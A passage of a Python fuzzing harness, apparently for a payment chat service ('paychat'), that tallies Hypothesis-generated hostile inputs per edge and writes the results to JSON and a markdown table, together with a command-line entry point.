                "findings": r.findings,
                "seconds": r.seconds,
            }
            for r in results
        ],
        "totals": {
            "inputs": sum(r.inputs for r in results),
            "findings": sum(len(r.findings) for r in results),
        },
    }
    if out is not None:
        out.mkdir(parents=True, exist_ok=True)
        (out / "fuzz.json").write_text(json.dumps(report, indent=2, ensure_ascii=False) + "\n")
        (out / "fuzz.md").write_text(markdown(report))
    return report


def markdown(report: dict[str, Any]) -> str:
    """The report as bench/results/fuzz.md."""
    env = report["environment"]
    lines = [
        "# Hostile input at every edge",
        "",
        *environment.header_lines(env),
        "",
        f"**{report['totals']['inputs']:,} generated inputs, {report['totals']['findings']} findings** "
        "(a finding: a crash, a 5xx, an unverified webhook accepted, a message left unanswered).",
        "",
        "| edge | inputs | answered with (count) | findings | seconds |",
        "| --- | ---: | --- | ---: | ---: |",
    ]
    for edge in report["edges"]:
        outcomes = ", ".join(f"{k} ({v:,})" for k, v in edge["outcomes"].items())
        found = len(edge["findings"])
        lines.append(f"| {edge['edge']} | {edge['inputs']:,} | {outcomes} | {found} | {edge['seconds']} |")
    for edge in report["edges"]:
        for finding in edge["findings"]:
            lines += ["", f"## Finding at {edge['edge']}", "", "```", finding, "```"]
    lines += ["", "Generated by bench/fuzz.py (Hypothesis); edges and strategies are described there.", ""]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    """`python -m bench.fuzz [--long] [--edges a,b]`."""
    import tempfile

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--long", action="store_true", help=f"{LONG_PER_EDGE:,} inputs per edge")
    parser.add_argument("--quick", action="store_true", help=f"{QUICK_PER_EDGE} inputs per edge (default)")
    parser.add_argument("--edges", default=",".join(EDGES), help="comma-separated: " + ", ".join(EDGES))
    parser.add_argument(
        "--per-edge", type=int, help="inputs per edge (written to bench/results/ like --long)"
    )
    parser.add_argument(
        "--out", type=Path, default=RESULTS, help="folder for fuzz.md/json (default bench/results/)"
    )
    args = parser.parse_args(argv)
    names = tuple(n for n in args.edges.split(",") if n)
    with tempfile.TemporaryDirectory(prefix="paychat-fuzz-") as workdir:
        long = args.long and not args.quick
        # Only a long (or explicitly sized) run's counts are worth keeping in bench/results/.
        report = run(
            long=long,
            names=names,
            workdir=Path(workdir),
            out=args.out if long or args.per_edge else None,
            per_edge=args.per_edge,
        )
    print(markdown(report))
    return 1 if report["totals"]["findings"] else 0


if __name__ == "__main__":
    sys.exit(main())
